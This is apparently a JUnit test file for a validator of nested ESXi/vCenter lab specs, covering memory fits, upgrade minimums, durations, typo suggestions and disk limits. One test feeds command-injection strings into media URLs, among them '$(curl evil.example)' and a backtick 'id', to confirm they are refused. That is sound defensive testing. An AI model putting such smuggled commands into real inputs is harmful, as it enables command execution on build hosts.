package io.nestlab.spec;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.nestlab.InvalidSpecException;
import io.nestlab.Problem;
import java.math.BigDecimal;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Validation of specs built in Java: the same rules, paths without line numbers. */
class SpecValidatorTest {
  private static LabSpecBuilder valid() {
    return LabSpec.builder()
        .name("built-lab")
        .esxi(EsxiSpec.of("8.0U3", 3))
        .vcenter(new VcenterSpec("8.0U3", "tiny", VcenterSpec.PLACEMENT_L1))
        .guest(GuestSpec.of("web-01", "esx-02", null));
  }

  private static List<String> paths(LabSpec spec) {
    return SpecValidator.validate(spec).stream().map(Problem::path).toList();
  }

  @Test
  void aBuiltLabWithDefaultsIsValid() {
    LabSpec spec = valid().build();
    assertEquals(List.of(), SpecValidator.validate(spec));
    assertEquals(spec, SpecValidator.requireValid(spec, "built"));
    assertEquals(spec, LabSpecs.parse(LabSpecs.write(spec, SpecFormat.YAML), "built.yaml"));
  }

  @Test
  void everyProblemIsReportedAtOnceWithoutALine() {
    LabSpec spec =
        valid()
            .name("X")
            .esxi(EsxiSpec.of("8.0U3", 3).withMemoryGib(4).withCpus(1))
            .policy(new PolicySpec(Duration.ofDays(40), BigDecimal.ZERO, null, 5, 4))
            .build();
    List<Problem> problems = SpecValidator.validate(spec);
    assertEquals(
        List.of(
            "name",
            "esxi.cpus",
            "esxi.memoryGib",
            "guests[0].memoryGib",
            "policy.ttl",
            "policy.budgetUsd",
            "policy.memoryOvercommit"),
        problems.stream().map(Problem::path).toList());
    assertTrue(problems.stream().allMatch(p -> p.line() == 0));
    InvalidSpecException e =
        assertThrows(InvalidSpecException.class, () -> SpecValidator.requireValid(spec, "mine"));
    assertEquals(problems, e.problems());
    assertTrue(e.getMessage().startsWith("mine: 7 problems"), e.getMessage());
  }

  @Test
  void vcenterOnAHostMustFitBesideEsxiItselfAndGuests() {
    EsxiSpec hosts = EsxiSpec.of("8.0U3", 2).withOverride("esx-01", HostOverride.memoryGib(18));
    LabSpec fits =
        valid()
            .esxi(hosts)
            .vcenter(new VcenterSpec("8.0U3", "tiny", "esx-01"))
            .guests(List.of())
            .build();
    assertEquals(List.of(), SpecValidator.validate(fits));
    // One more GiB for a guest on the same host no longer fits: 14 + 4 + 2 > 18.
    LabSpec full = fits.toBuilder().guest(GuestSpec.of("g1", "esx-01", null)).build();
    assertEquals(List.of("guests[0].memoryGib"), paths(full));
    // The upgraded appliance counts: 8.0 tiny needs 14 GiB where 7.0 tiny needs 12.
    LabSpec upgrade =
        LabSpec.builder()
            .name("upgrade-fit")
            .esxi(EsxiSpec.of("7.0U3", 2).withOverride("esx-01", HostOverride.memoryGib(16)))
            .vcenter(new VcenterSpec("7.0U3", "tiny", "esx-01"))
            .upgrade(new UpgradeSpec("8.0U3", "8.0U3"))
            .build();
    assertEquals(List.of("vcenter.placement"), paths(upgrade));
    assertTrue(
        SpecValidator.validate(upgrade).get(0).message().contains("after the upgrade"),
        SpecValidator.validate(upgrade).toString());
  }

  @Test
  void upgradeTargetsMustAlsoMeetTheirMinimums() {
    LabSpec spec =
        LabSpec.builder()
            .name("old-hosts")
            .esxi(EsxiSpec.of("6.7U3", 1).withMemoryGib(6).withDisksGib(10, 50))
            .upgrade(new UpgradeSpec("7.0U3", null))
            .build();
    List<Problem> problems = SpecValidator.validate(spec);
    assertEquals(List.of("esxi.memoryGib", "esxi.bootDiskGib"), paths(spec));
    assertTrue(problems.get(0).message().contains("(the upgrade target)"), problems.toString());
  }

  @Test
  void theBuilderRefusesALabWithoutHosts() {
    InvalidSpecException e =
        assertThrows(InvalidSpecException.class, () -> LabSpec.builder().name("x").build());
    assertEquals("esxi", e.problems().get(0).path());
  }

  @Test
  void durationsReadAndWriteTheirShortForms() {
    assertEquals(Duration.ofMinutes(90), DurationText.parse("1h30m").orElseThrow());
    assertEquals(Duration.ofDays(2), DurationText.parse("2d").orElseThrow());
    assertEquals(Duration.ofHours(8), DurationText.parse("PT8H").orElseThrow());
    assertTrue(DurationText.parse("8 hours").isEmpty());
    assertTrue(DurationText.parse("h").isEmpty());
    assertEquals("1d12h", DurationText.format(Duration.ofHours(36)));
    assertEquals("45s", DurationText.format(Duration.ofSeconds(45)));
  }

  @Test
  void suggestionsCatchTyposButNotStrangers() {
    List<String> keys = Binder.keys(GuestSpec.class);
    assertEquals("memoryGib", Suggestions.closest("memory", keys).orElseThrow());
    assertEquals("memoryGib", Suggestions.closest("memorygib", keys).orElseThrow());
    assertEquals("host", Suggestions.closest("hots", keys).orElseThrow());
    assertTrue(Suggestions.closest("ram", keys).isEmpty());
    assertTrue(Suggestions.closest("colour", keys).isEmpty());
  }

  private static MediaSpec isos(String esxiUrl, String vcsaUrl) {
    return new MediaSpec(new MediaRef(esxiUrl, null), new MediaRef(vcsaUrl, null));
  }

  @Test
  void aCommandSubstitutionInAUrlIsRefusedAsOne() {
    String ok = "https://example.org/vcsa.iso";
    for (String bad :
        List.of("https://example.org/$(curl evil.example)/esxi.iso", "s3://b/`id`.iso")) {
      List<Problem> problems = SpecValidator.validate(valid().media(isos(bad, ok)).build());
      assertEquals(List.of("media.esxiIso.url"), problems.stream().map(Problem::path).toList());
      assertTrue(problems.get(0).message().contains("command substitution"), problems.toString());
      assertTrue(problems.get(0).message().contains("URL-encode"), problems.toString());
    }
    LabSpec guestImage =
        valid()
            .media(isos(ok, ok))
            .guests(List.of(GuestSpec.of("web-01", "esx-02", "gs://b/${HOME}.ova")))
            .build();
    List<Problem> problems = SpecValidator.validate(guestImage);
    assertEquals(List.of("guests[0].image"), problems.stream().map(Problem::path).toList());
    assertTrue(problems.get(0).message().contains("'$'"), problems.toString());
    // Spaces and quotes are refused too, each named, before render or up meets them.
    problems = SpecValidator.validate(valid().media(isos("https://h/my iso.iso", ok)).build());
    assertTrue(problems.get(0).message().contains("a space"), problems.toString());
    problems = SpecValidator.validate(valid().media(isos("https://h/it's.iso", ok)).build());
    assertTrue(problems.get(0).message().contains("a quote"), problems.toString());
  }

  @Test
  void missingMediaIsAWarningNamingWhatUpNeeds() {
    LabSpec noMedia = valid().build();
    assertEquals(List.of(), SpecValidator.validate(noMedia));
    List<Problem> warnings = SpecValidator.warnings(noMedia);
    assertEquals(
        List.of("media.esxiIso", "media.vcsaIso"), warnings.stream().map(Problem::path).toList());
    assertTrue(warnings.get(0).message().contains("'nestlab up'"), warnings.toString());
    assertTrue(warnings.get(0).message().contains("url:"), warnings.toString());
    // Without vCenter only the ESXi installer is needed; with both given there is nothing to say.
    LabSpec noVcenter = valid().vcenter(null).guests(List.of()).build();
    assertEquals(
        List.of("media.esxiIso"),
        SpecValidator.warnings(noVcenter).stream().map(Problem::path).toList());
    String url = "https://example.org/i.iso";
    assertEquals(List.of(), SpecValidator.warnings(valid().media(isos(url, url)).build()));
  }

  @Test
  void aDatastoreLargerThanAnyDataDiskIsRefused() {
    assertEquals(
        io.nestlab.plan.ResourceModel.MAX_DATA_DISK_GIB, SpecValidator.MAX_NESTED_DISK_GIB);
    // 100 TiB of datastore on a lab whose data disk is sized for what it writes (about 20 GiB).
    LabSpec huge = valid().esxi(EsxiSpec.of("8.0U3", 3).withDisksGib(32, 102_400)).build();
    List<Problem> problems = SpecValidator.validate(huge);
    assertEquals(List.of("esxi.datastoreDiskGib"), problems.stream().map(Problem::path).toList());
    assertTrue(problems.get(0).message().contains("16384 GiB"), problems.toString());
    LabSpec override =
        valid()
            .esxi(
                EsxiSpec.of("8.0U3", 3)
                    .withOverride("esx-02", new HostOverride(null, null, null, 20_000)))
            .build();
    assertEquals(List.of("esxi.overrides.esx-02.datastoreDiskGib"), paths(override));
    // Each host below the limit, but together more than one data disk can hold.
    LabSpec together = valid().esxi(EsxiSpec.of("8.0U3", 3).withDisksGib(32, 6_000)).build();
    assertEquals(List.of("esxi"), paths(together));
    assertTrue(
        SpecValidator.validate(together).get(0).message().contains("18096 GiB"),
        SpecValidator.validate(together).toString());
  }
}
